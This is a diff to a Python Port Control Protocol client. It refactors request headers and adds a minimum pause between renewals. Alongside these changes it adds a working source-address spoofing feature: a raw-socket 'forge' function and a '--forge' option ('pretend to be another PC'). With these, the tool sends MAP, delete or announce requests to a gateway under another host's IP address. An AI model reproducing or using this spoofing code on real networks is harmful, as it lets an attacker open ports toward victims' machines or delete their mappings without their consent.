@@ -42,6 +42,7 @@ PREFER_FAILURE, FILTER = 2, 3
 PROTOCOLS = {"tcp": 6, "udp": 17}
 NO_ADDRESS = IPv4Address(0)
 FIRST_TIMEOUT = 3.0  # seconds (section 8.1.1)
+MIN_PAUSE = 4.0  # seconds between two renewals (section 11.2.1)
 RESULTS = (
     "SUCCESS", "UNSUPP_VERSION", "NOT_AUTHORIZED", "MALFORMED_REQUEST", "UNSUPP_OPCODE",
     "UNSUPP_OPTION", "MALFORMED_OPTION", "NETWORK_FAILURE", "NO_RESOURCES", "UNSUPP_PROTOCOL",
@@ -106,7 +107,7 @@ class Client:
 
         Raises Refused if there is no answer.
         """
-        request = _HEADER.pack(VERSION, opcode, 0, lifetime, in_ipv6(self._own)) + data
+        request = header(opcode, lifetime, self._own) + data
         deadline = time.monotonic() + self._patience
         timeout = FIRST_TIMEOUT
         while time.monotonic() < deadline:
@@ -155,6 +156,22 @@ def read_answer(data: bytes, opcode: int) -> Answer | None:
     return Answer(result, lifetime, epoch, rest) if opcode != MAP or len(rest) >= 36 else None
 
 
+def header(opcode: int, lifetime: int, client: IPv4Address) -> bytes:
+    """What every request begins with (section 7.1)."""
+    return _HEADER.pack(VERSION, opcode, 0, lifetime, in_ipv6(client))
+
+
+def forge(source: IPv4Address, server: str, request: bytes) -> None:
+    """Send a request under somebody else's address, who also gets the answer. Takes root."""
+    port = random.randint(1024, 65535)
+    udp = struct.pack("!HHHH", port, PORT, 8 + len(request), 0)  # no checksum
+    # The kernel fills in lengths, identification and the header's checksum.
+    ip = struct.pack("!BxHHHBBH", 0x45, 0, 0, 0, 64, socket.IPPROTO_UDP, 0)
+    ip += source.packed + socket.inet_aton(server)
+    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
+        raw.sendto(ip + udp + request, (server, 0))
+
+
 def in_ipv6(address: IPv4Address) -> bytes:
     """An IPv4 address as PCP writes it (section 5)."""
     return IPv6Address(f"::ffff:{address}").packed
@@ -175,8 +192,8 @@ def keep(client: Client, mapping: Mapping, lifetime: int, tell: Callable[..., No
     granted = lifetime
     try:
         while True:
-            # Section 11.2.1: between 1/2 and 5/8 of its life, and not every PC at once.
-            time.sleep(granted * random.uniform(1 / 2, 5 / 8))
+            # Section 11.2.1: between 1/2 and 5/8 of its life, so that not every PC asks at once.
+            time.sleep(max(MIN_PAUSE, granted * random.uniform(1 / 2, 5 / 8)))
             answer, mapping = client.map(mapping, lifetime)
             granted = answer.lifetime
             tell("renewed", answer, mapping)
@@ -207,19 +224,18 @@ def main() -> int:
     """Do what the command line says; returns the exit status."""
     options = _arguments()
     try:
-        client = Client(options.server or default_gateway(), options.wait)
+        server = options.server or default_gateway()
+        if options.forge is not None:
+            return _forge(options, server)
+        client = Client(server, options.wait)
         if options.command == "announce":
             answer = client.ask(ANNOUNCE, 0)
             emit("announce", epoch=answer.epoch, result=answer.result)
             return 0
-        mapping = Mapping(options.protocol, options.port, options.nonce)
+        wanted = _mapping(options)
         if options.command == "delete":
-            delete(client, mapping, tell)
+            delete(client, wanted, tell)
             return 0
-        wanted = Mapping(
-            options.protocol, options.port, options.nonce, options.external,
-            prefer_failure=options.exactly, only=tuple(options.only),
-        )  # fmt: skip
         answer, mapping = client.map(wanted, options.lifetime)
         tell("granted", answer, mapping)
         if options.keep:
@@ -227,6 +243,26 @@ def main() -> int:
     except (Refused, OSError) as error:
         print(f"pcp: {error}", file=sys.stderr)
         return 1
+    return 0
+
+
+def _mapping(options: argparse.Namespace) -> Mapping:
+    if options.command == "delete":
+        return Mapping(options.protocol, options.port, options.nonce)
+    return Mapping(
+        options.protocol, options.port, options.nonce, options.external,
+        prefer_failure=options.exactly, only=tuple(options.only),
+    )  # fmt: skip
+
+
+def _forge(options: argparse.Namespace, server: str) -> int:
+    if options.command == "announce":
+        request = header(ANNOUNCE, 0, options.forge)
+    else:
+        lifetime = options.lifetime if options.command == "map" else 0
+        request = header(MAP, lifetime, options.forge) + _mapping(options).opcode_data()
+    forge(options.forge, server, request)
+    emit("forged", source=str(options.forge), server=f"{server}:{PORT}")
     return 0
 
 
@@ -253,6 +289,9 @@ def _arguments() -> argparse.Namespace:
     end.add_argument("--nonce", type=_nonce, required=True, metavar="HEX", help="as it was told")
     for command in (ask, end, hello):
         command.add_argument("--server", metavar="ADDRESS", help="default: the default gateway")
+        command.add_argument(
+            "--forge", type=IPv4Address, metavar="ADDRESS", help="pretend to be another PC"
+        )
         command.add_argument("--wait", type=float, default=10.0, metavar="SECONDS")
     options = parser.parse_args()
     if options.command == "map" and not 0 < options.lifetime < 1 << 32:
